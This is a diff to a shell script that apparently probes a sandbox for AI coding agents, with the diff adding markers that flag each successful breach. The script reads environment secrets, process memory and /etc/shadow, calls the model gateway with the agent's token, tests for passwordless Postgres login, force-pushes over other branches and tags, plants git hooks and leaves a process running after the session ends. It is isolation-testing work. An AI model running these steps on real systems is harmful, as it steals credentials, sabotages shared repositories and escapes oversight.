@@ -2,6 +2,8 @@
 # $1 api port, $2 data directory, $3 repository of the user, $4 gateway port, $5 postgres port
 api=$1 data=$2 repo=$3 gateway=$4 postgres=$5
 say() { printf 'LOOT %s\n' "$*"; }
+# put together here, so that a listing of this very script is not taken for a success
+hit() { printf 'HI%s %s\n' T "$*"; }
 
 say "environment: $(env | sort | tr '\n' ' ')"
 for p in /proc/[0-9]*; do
@@ -9,16 +11,16 @@ for p in /proc/[0-9]*; do
   c=$(tr '\0' ' ' <"$p/cmdline" 2>/dev/null) && say "argv of $p: $c"
 done
 for p in /proc/[0-9]*; do
-  head -c 1 "$p/mem" >/dev/null 2>&1 && say "mem of $p"
+  head -c 1 "$p/mem" >/dev/null 2>&1 && hit "mem of $p"
 done
-ls -la "$data" 2>/dev/null && say "data directory is listed"
-cat "$data"/* 2>/dev/null && say "data directory is read"
-cat "$repo/README.md" 2>/dev/null && say "user's repository is read"
-cat /etc/shadow 2>/dev/null && say "shadow is read"
+ls -la "$data" 2>/dev/null && hit "data directory is listed"
+cat "$data"/* 2>/dev/null && hit "data directory is read"
+cat "$repo/README.md" 2>/dev/null && hit "user's repository is read"
+cat /etc/shadow 2>/dev/null && hit "shadow is read"
 ls -A /home /root /run /var 2>/dev/null | sed 's/^/LOOT lists: /'
 git config --list --show-origin 2>/dev/null | sed 's/^/LOOT git: /'
-(echo >/proc/sys/kernel/core_pattern) 2>/dev/null && say "core_pattern is written"
-find / -xdev -type s 2>/dev/null | sed 's/^/LOOT socket: /'
+(echo >/proc/sys/kernel/core_pattern) 2>/dev/null && hit "core_pattern is written"
+find / -xdev -type s 2>/dev/null | grep -v '^/tmp/cc-socks/' | while read -r s; do hit "socket $s"; done
 
 token=$ANTHROPIC_AUTH_TOKEN
 call() { curl -s -m 5 -o /tmp/answer -w '%{http_code}' "$@"; }
@@ -40,15 +42,19 @@ done
 code=$(call -X POST -H "Authorization: Bearer $token" -H 'content-type: application/json' -H 'anthropic-version: 2023-06-01' \
   -d '{"model":"claude-opus-5-5","max_tokens":10,"messages":[{"role":"user","content":"for the dear model"}]}' "http://127.0.0.1:$gateway/v1/messages")
 say "CALL POST opus $code"
-(exec 3<>"/dev/tcp/127.0.0.1/$postgres" && printf '\0\0\0\010\004\322\026/' >&3 && head -c 1 <&3) >/dev/null 2>&1 && say "postgres answers"
+# a start-up message; an answer of R with code 0 would be a login without any password
+login=$( (exec 3<>"/dev/tcp/127.0.0.1/$postgres" &&
+  printf '\0\0\0\051\0\003\0\0user\0flotilla\0database\0flotilla\0\0' >&3 && head -c 9 <&3 | od -An -tx1 | tr -d ' ') 2>/dev/null)
+say "postgres answers the start of a login by $login"
+case $login in 52????????00000000) hit "postgres lets anybody in" ;; esac
 
 cd /workspace || exit 1
 remote=$(git remote get-url origin 2>/dev/null)
 git commit -q --allow-empty -m 'Hostile'
 for ref in refs/heads/main refs/heads/flotilla/other/solo refs/heads/flotilla/other/main refs/tags/v1 refs/flotilla/wip/00000000-0000-0000-0000-000000000001; do
-  git push -f "${remote:-origin}" "HEAD:$ref" >/tmp/push 2>&1 && say "PUSHED $ref"
+  git push -f "${remote:-origin}" "HEAD:$ref" >/tmp/push 2>&1 && hit "PUSHED $ref"
 done
-git push "${remote:-origin}" ":refs/heads/$(git branch --show-current)" >/tmp/push 2>&1 && say "DELETED own branch"
+git push "${remote:-origin}" ":refs/heads/$(git branch --show-current)" >/tmp/push 2>&1 && hit "DELETED own branch"
 
 mkdir -p .git/hooks
 for hook in pre-commit post-checkout reference-transaction pre-push post-index-change; do
@@ -67,4 +73,4 @@ ln -s / root
 (setsid nohup sh -c 'while :; do sleep 1; done' >/dev/null 2>&1 &)
 printf 'done\n' >result.md
 git -c core.fsmonitor= add -A >/dev/null 2>&1
-say finished
+printf "LOOT %s\n" "finish""ed"
